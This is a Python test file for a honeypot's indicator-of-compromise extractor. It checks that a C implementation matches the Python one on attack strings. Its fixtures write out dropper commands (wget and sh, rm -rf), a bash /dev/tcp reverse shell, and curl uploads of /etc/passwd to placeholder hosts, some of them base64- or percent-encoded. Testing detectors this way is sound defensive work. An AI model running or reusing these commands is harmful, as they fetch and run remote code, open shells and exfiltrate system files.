"""Whole extraction jobs in C (``native_jobs.run_jobs``): built in CI, and every job it answers gets
exactly the IOCs (type, value, role, order) the Python path gives, on the reference corpus and on
hostile input; the jobs it leaves (None) are the ones it does not handle."""

from __future__ import annotations

import os
import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from honeyguard.detect.iocs import anchored, collector, downloads, extract, native_jobs, py_what_to_extract
from honeyguard.detect.iocs import gates as G
from honeyguard.detect.iocs.extract import Job, extract_many
from honeyguard.detect.iocs.layers import layers
from tests.detect import _ioc_corpus as corpus

package = sys.modules["honeyguard.detect.iocs"]  # (its _open_gates, swapped below)

MIB = 1024 * 1024


def _plain(found: list | None) -> list[tuple[str, str, str]] | None:  # type: ignore[type-arg]
    return None if found is None else [(i.type, i.value, i.role) for i in found]


def _native(jobs: list[Job]) -> list[list[tuple[str, str, str]] | None]:
    assert native_jobs.run_jobs is not None
    return [_plain(found) for found in native_jobs.run_jobs(jobs)]


def _python(jobs: list[Job]) -> list[list[tuple[str, str, str]] | None]:
    return [_plain(found) for found in extract._python_many(jobs)]


def _same_where_answered(jobs: list[Job]) -> int:
    """Asserts each answered job equals Python's; the number answered."""
    native, python = _native(jobs), _python(jobs)
    for job, mine, reference in zip(jobs, native, python, strict=True):
        assert mine is None or mine == reference, job
    return sum(found is not None for found in native)


def test_the_jobs_run_in_c_where_the_extension_is_built() -> None:
    assert native_jobs.run_jobs is not None or os.environ.get("CI") != "true"
    assert (native_jobs.run_jobs is not None) == anchored.NATIVE_AVAILABLE
    assert extract.run_jobs is native_jobs.run_jobs


def _built() -> bool:
    """Whether run_jobs is there; it must be in CI (without it every job is Python's, which the
    other IOC tests cover)."""
    assert native_jobs.run_jobs is not None or os.environ.get("CI") != "true"
    return native_jobs.run_jobs is not None


def test_jobs_answered_in_c_equal_python_on_the_reference_corpus() -> None:
    if not _built():
        return
    inputs, expected = corpus.inputs(), corpus.reference()
    jobs = [Job(texts, host) for texts, host in inputs]
    native = _native(jobs)
    answered = [(found, [tuple(i) for i in reference]) for found, reference in zip(native, expected, strict=True)]
    assert all(found is None or found == reference for found, reference in answered)
    assert sum(found is not None for found, _ in answered) > 500  # the plain droppers, addresses, URLs
    assert sum(bool(found) for found, _ in answered) > 50


_PIECES = st.sampled_from(
    [
        b"wget http://198.51.100.7/jaws",
        b"wget+http://198.51.100.7/a+-O+/tmp/b",
        b"curl -s http://evil.example.com:8080/x.sh",
        b"curl -T /etc/passwd ftp://198.51.100.9/",
        b"curl --upload-file x http://198.51.100.9/",
        b"busybox wget -g 203.0.113.9 -l /tmp/m -r Mozi.m",
        b"busybox  tftp -g -r m 203.0.113.5",
        b"tftp 203.0.113.5:69",
        b"lynx x.example.ru/a",
        b"http://127.0.0.1/a",
        b"http://127.0.0.1:8080/a",
        b"http://[::1]:80/x",
        b"http://[2001:db8::1]/x",
        b"https://EVIL.Example.COM:99999/x",
        b"http://evil.example.com:0/x",
        b"http://user@198.51.100.5:65535/x",
        b"ftp://10.0.0.1/x",
        b"stratum+tcp://xmr.example.com:4444",
        b"https://www.w3.org/1999/xhtml",
        b"http://a.b.c.d.e.f.g.h.i.j.k.example.com/",
        b"ldap://x.example.com/a",
        b"wss://x.example.com/a",
        b"198.51.100.7",
        b"169.254.169.254",
        b"http://169.254.169.254/latest/meta-data",
        b"224.0.0.251",
        b"239.255.255.250:1900",
        b"127.9.9.9",
        b"wget http://127.0.0.1:8080/a",
        b"0.0.0.0",
        b"255.255.255.255",
        b"1.2.3.4.5",
        b"999.1.1.1",
        b"192.0.2.1:8080",
        b"evil.example.com",
        b"http://\xc3\xa9vil.example.com/",
        b"http://x.example.com/\xff\xfe",
        b"\x00",
        b"\xff",
        b"\xc3(",
        b"+",
        b"%",
        b"_url",
        b"swp_url=http://x.example.com/p",
        b" ",
        b"\t",
        b";",
        b"|",
        b"&",
        b"\n",
        b".,:'\")",
    ]
)
_TEXT = st.one_of(st.lists(_PIECES, max_size=12).map(b"".join), st.binary(max_size=64))
_HOSTS = st.sampled_from(
    [*corpus.HOSTS, b"127.0.0.1", b"EVIL.example.com:443", b"[::1]:8080", b"[2001:db8::1]", b" 198.51.100.7 ", b"\xff"]
)
_JOBS = st.lists(
    st.builds(Job, st.lists(_TEXT, max_size=3).map(tuple), _HOSTS, st.sampled_from([64, 0, 1, 2, 3])),
    min_size=1,
    max_size=8,
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_JOBS)
def test_jobs_answered_in_c_equal_python_on_hostile_input(jobs: list[Job]) -> None:
    if not _built():
        return
    _same_where_answered(jobs)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_JOBS)
def test_a_batch_gives_what_each_job_gives_alone(jobs: list[Job]) -> None:
    if not _built():
        return
    alone = [_plain(extract_many([job])[0]) for job in jobs]
    assert [_plain(found) for found in extract_many(jobs)] == alone


_ANSWERED = [
    b"/shell?cd /tmp;rm -rf *;wget http://198.51.100.7/jaws1;sh /tmp/jaws",
    b"cd+/tmp;wget+http://198.51.100.7/a+-O+/tmp/b;busybox+tftp+-g+-r+m+203.0.113.5",
    b"wget http://127.0.0.1/a http://evil.example.com/b 198.51.100.7 192.0.2.1:8080",
    b"curl http://[2001:db8::1]:8080/x http://[::1]/y https://EVIL.example.COM:99999/z",
    b" ".join(b"http://198.51.100.%d/x http://h%d.example.com:%d/y" % (i % 256, i, i * 7) for i in range(200)),
    # more URLs and hosts than C's memos hold, met again as downloads (their roles move up)
    b" ".join(b"http://198.51.100.%d/x%d" % (i % 250, i) for i in range(300))
    + b";"
    + b";".join(b"wget http://198.51.100.%d/x%d" % (i % 250, i) for i in range(0, 300, 3)),
    b"\x00" * MIB + b" wget http://198.51.100.7/a",
    b"http://" + b"a" * MIB,
    b"1.2.3.4 " * (MIB // 8),
    b"wget+" * (MIB // 5) + b"http://198.51.100.7/+x",
    b"\xff\xfe wget http://198.51.100.7/\xc3( \xc3\xa9.example.com",
    # what an address is: routable or not (loopback, unspecified, multicast, link-local, broadcast)
    b" ".join(
        b"http://%s/x %s" % (address, address)
        for address in (
            b"169.254.169.254",
            b"224.0.0.251",
            b"239.1.2.3",
            b"223.255.255.255",
            b"240.0.0.1",
            b"127.0.0.1",
            b"126.255.255.255",
            b"128.0.0.1",
            b"0.0.0.0",
            b"0.0.0.1",
            b"255.255.255.255",
            b"255.255.255.254",
            b"169.253.1.1",
            b"169.255.1.1",
            b"01.2.3.4",
            b"1.2.3.04",
            b"1.2.3.4.",
            b"10.0.0.1",
        )
    ),
]


@pytest.mark.parametrize("text", _ANSWERED, ids=range(len(_ANSWERED)))
@pytest.mark.parametrize("host", [b"", b"127.0.0.1:8080", b"evil.example.com", b"[2001:db8::1]:80", b"198.51.100.7"])
def test_plain_droppers_large_texts_and_many_urls_run_in_c(text: bytes, host: bytes) -> None:
    if not _built():
        return
    jobs = [Job((text,), host), Job((text, text[:100], b""), host, 3), Job((text,), host, 0)]
    assert _same_where_answered(jobs) == len(jobs)


def test_what_c_does_not_handle_is_left_to_python() -> None:
    if not _built():
        return
    jobs = [
        Job((b"bash -i >& /dev/tcp/203.0.113.4/4444 0>&1",), b""),  # the shell extractor
        Job((b"swp_url=http://x.example.com/p",), b""),
        Job((b"wget http://198.51.100.7/a",), b"", 64, ((b"198.51.100.2", b"6379", "c2"),)),  # endpoints
        Job(("text",), b""),  # type: ignore[arg-type]  # not bytes: Python's answer (its error)
        Job((b"x",) * 100, b""),  # more layers than C keeps
    ]
    assert _native(jobs) == [None] * len(jobs)
    assert _same_where_answered(jobs[:3]) == 0


def test_decoded_layers_are_mined_in_c() -> None:
    # Python's layers.layers decodes (called back), C mines each layer
    if not _built():
        return
    texts = [
        b"wget http://198.51.100.7/a %41 %77%67%65%74%20http%3A%2F%2F192.0.2.77%2Fa",
        b"echo d2dldCBodHRwOi8vMS4yLjMuNC94|base64 -d|sh",
        b"w'g'e't http://203.0.113.11/a \\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70",
        b'{"cmd": "curl http:\\/\\/198.51.100.9\\/x"}',
        b"cd+/tmp;wget+http%3A%2F%2F198.51.100.7%2Fa+-O+b",
    ]
    jobs = [Job((text,), host) for text in texts for host in (b"", b"198.51.100.7", b"192.0.2.77:80")]
    assert _same_where_answered(jobs) == len(jobs)


def test_ops_from_python_helpers_are_applied_as_python_applies_them() -> None:
    if not _built():
        return
    # download commands without URLs, or that may send data out, go through download_ops
    downloads.download_ops.cache_clear()
    collector.host_class.cache_clear()
    jobs = [
        Job((b"busybox wget -g 203.0.113.9 -l /tmp/m -r Mozi.m",), b""),
        Job((b"tftp -g -r m 203.0.113.5; tftp 198.51.100.1:69",), b""),
        Job((b"curl -d @/etc/passwd http://198.51.100.9/",), b""),
        Job((b"curl -T x ftp://198.51.100.9/ ; wget -t 3 x.example.ru/a",), b""),
    ]
    assert _same_where_answered(jobs) == len(jobs)


def test_decoding_plus_leaves_the_interpreters_bytes_alone() -> None:
    if not _built():
        return
    # a one-byte text is CPython's shared object: the '+'-decoded copy must be a new one
    assert native_jobs.run_jobs is not None
    native_jobs.run_jobs([Job((b"+", b"a+b", b"++"), b"")])
    assert b"+"[0] == 0x2B and bytes([0x2B]) == b"+" and b"a+b".replace(b"+", b" ") == b"a b"


_UNHANDLED = G.SHELL | G.NC | G.MINER | G.HASH | G.IMAGE | G.JNDI  # the extractors not in C
_GATE_WORDS = [word for words in G._WORDS.values() for word in words]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        _TEXT,
        st.lists(st.sampled_from(_GATE_WORDS), max_size=3).map(
            lambda words: b"wget http://198.51.100.7/".join(word.upper() if len(word) % 2 else word for word in words)
        ),
    )
)
def test_c_takes_a_job_exactly_when_its_layers_open_only_extractors_it_handles(text: bytes) -> None:
    if not _built():
        return
    text = text.replace(b"+", b"")  # (no '+'-decoded layers)
    answered = _native([Job((text,), b"")])[0] is not None
    found = layers(text)
    handled = all(gates & _UNHANDLED == 0 and layer.lower().find(b"swp_url") < 0 for layer, gates in found)
    assert answered == handled


_PART = st.one_of(
    _TEXT,
    st.sampled_from([b"", b"+", b"%", b"\n ", b"\n\t", b"() {", b"()\x0b\r\n{", b"( ) {", b"a\nb", b"wget+x"]),
    st.lists(st.sampled_from([*_GATE_WORDS, b"1", b"12", b"123", b"1234", b".", b"+", b"\n", b"x"]), max_size=8).map(
        b"".join
    ),
)


@settings(
    max_examples=600,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(_PART, st.lists(_PART, max_size=3).map(b"".join), _PART)
def test_what_to_extract_in_c_equals_python(
    monkeypatch: pytest.MonkeyPatch, line: bytes, head: bytes, body: bytes
) -> None:
    if not _built():
        return
    assert native_jobs.what_to_extract is not None
    expected = py_what_to_extract(line, head, body)  # (its gates on Hyperscan where built)
    assert native_jobs.what_to_extract(line, head, body) == expected
    with monkeypatch.context() as patch:  # and the gates without Hyperscan agree
        patch.setattr(package, "_open_gates", G.python_gates)
        assert py_what_to_extract(line, head, body) == expected


def test_what_to_extract_in_c_refuses_what_is_not_bytes() -> None:
    if not _built():
        return
    assert native_jobs.what_to_extract is not None
    for wrong in ("line", None, bytearray(b"x")):
        with pytest.raises(TypeError):
            native_jobs.what_to_extract(wrong, b"", b"")  # type: ignore[arg-type]


def test_callers_that_change_things_under_it_get_an_answer_or_an_error_never_a_crash() -> None:
    """Callbacks run while a batch is being read: a callback emptying the caller's list of jobs or
    of texts reads copies, a failing callback raises, and a job given texts as an iterator (which
    reading would use up) is left to Python whole."""
    if not _built():
        return
    assert native_jobs.run_jobs is not None
    native = anchored._native.run_jobs  # type: ignore[union-attr]
    dropper = b"cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh"
    texts = [dropper, b"curl http://example.net/a"]
    jobs = [Job(texts, b"victim.example"), Job((dropper,), b"victim.example")]

    def emptying_own_names(host: bytes) -> frozenset[str]:
        jobs.clear()
        texts.clear()
        return collector.own_names(host)

    found = native(jobs, layers, collector.host_class, downloads.download_ops, emptying_own_names, collector.Ioc)
    assert [_plain(f) for f in found] == _python(
        [Job((dropper, b"curl http://example.net/a"), b"victim.example"), Job((dropper,), b"victim.example")]
    )

    def no_set(host: bytes) -> list[str]:
        return ["victim.example"]

    two = [Job((dropper,), b"victim.example")] * 2
    assert native(two, layers, collector.host_class, downloads.download_ops, no_set, collector.Ioc) == [None, None]

    def failing(tool: bytes, args: bytes) -> object:
        raise RuntimeError("callback failed")

    with pytest.raises(RuntimeError, match="callback failed"):
        native(
            [Job((b"wget 203.0.113.9",), b"")],
            layers,
            collector.host_class,
            failing,
            collector.own_names,
            collector.Ioc,
        )

    lazy = Job(iter([dropper]), b"victim.example")  # type: ignore[arg-type]
    assert native([lazy], layers, collector.host_class, downloads.download_ops, collector.own_names, collector.Ioc) == [
        None
    ]
